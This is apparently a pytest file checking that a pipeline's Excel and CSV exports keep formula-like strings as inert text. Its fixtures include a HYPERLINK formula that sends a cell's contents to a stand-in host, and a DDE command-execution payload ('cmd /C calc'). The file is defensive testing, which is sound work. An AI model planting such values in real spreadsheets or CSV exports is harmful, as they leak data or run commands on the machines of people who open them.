"""What people open must not run what Amili or a source system wrote: a text that looks like a
formula stays a text in every workbook and in every CSV file a spreadsheet program may open."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date

from openpyxl import load_workbook

from amili_pipelines.books import write_erp_feedback, write_workbooks
from amili_pipelines.domain.creditors import CreditorConfig, CreditorsFile
from amili_pipelines.domain.invoice import Market
from amili_pipelines.domain.outbox import OutboxState, Outcome
from amili_pipelines.warehouse import open_warehouse
from tests.support.records import case, entry

DAY = date(2026, 6, 10)
SE = CreditorConfig(key="demo-se", name="Demo Sverige AB", market=Market.SE, account_id="a", creditor_id="c")
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Öppna")'
REASON = "=1+cmd|' /C calc'!A0"


def _cases_with_formulas(wh) -> None:
    for number in ("A", "B"):
        wh.outbox.enqueue([entry(number)])
        wh.outbox.record_outcomes([Outcome(Market.SE, f"demo-se/{number}", OutboxState.REGISTERED,
                                           case_id=f"c-{number}")])
    wh.cases.upsert_cases([dataclasses.replace(case("c-A", "A"), customer_name=FORMULA),
                           case("c-B", "B", closed=REASON)])
    wh.reconciliation.rebuild(as_of=DAY)


def test_a_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path):
    with open_warehouse(tmp_path / "w.duckdb") as wh:
        _cases_with_formulas(wh)
        summary = write_workbooks(wh, creditors=CreditorsFile(creditors=[SE]), books_dir=tmp_path / "books",
                                  as_of=DAY, periods=["2026-06"])
    wb = load_workbook(summary.files[0])
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == FORMULA for c in cells), "the name is shown as it was written"
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no cell is a formula"


def test_a_text_that_looks_like_a_formula_stays_text_in_the_erp_files(tmp_path):
    books = tmp_path / "books"
    with open_warehouse(tmp_path / "w.duckdb") as wh:
        _cases_with_formulas(wh)
        write_erp_feedback(wh, creditors=CreditorsFile(creditors=[SE]), books_dir=books, day=DAY)
    folder = books / "demo-se" / "erp"
    xlsx = load_workbook(folder / f"demo-se_closed_without_payment_{DAY}_1.xlsx")
    cells = [c for row in xlsx.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    rows = list(csv.DictReader(io.StringIO(
        (folder / f"demo-se_closed_without_payment_{DAY}_1.csv").read_text(encoding="utf-8"))))
    assert [r["closed_reason"] for r in rows] == ["'" + REASON], \
        "a spreadsheet program opening the CSV shows the text instead of running it"
    assert rows[0]["claimed_amount"] == "1250.00", "amounts are left as they are"
